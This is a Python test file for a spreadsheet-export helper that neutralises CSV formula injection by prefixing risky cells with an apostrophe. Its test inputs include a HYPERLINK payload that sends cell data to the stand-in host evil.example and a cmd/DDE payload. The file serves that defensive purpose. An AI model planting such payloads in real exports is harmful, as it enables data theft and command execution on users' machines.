"""core.spreadsheets: a CSV cell never starts like a formula (OWASP CSV injection guidance)."""

import csv
import io

import pytest

from core.spreadsheets import SpreadsheetWriter, cell


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("https://evil.example/?"&A1,"Open")',
            '\'=HYPERLINK("https://evil.example/?"&A1,"Open")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Moonlit Harbor Episode 1 = great", "Moonlit Harbor Episode 1 = great"),
        ("", ""),
        (42, "42"),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_text(value, written):
    assert cell(value) == written


def test_every_cell_is_quoted_and_read_back_as_written():
    out = io.StringIO(newline="")
    SpreadsheetWriter(out).writerow(["=1+1", 'say "hi"', "line\nbreak"])
    assert out.getvalue() == '"\'=1+1","say ""hi""","line\nbreak"\r\n'
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        "'=1+1",
        'say "hi"',
        "line\nbreak",
    ]
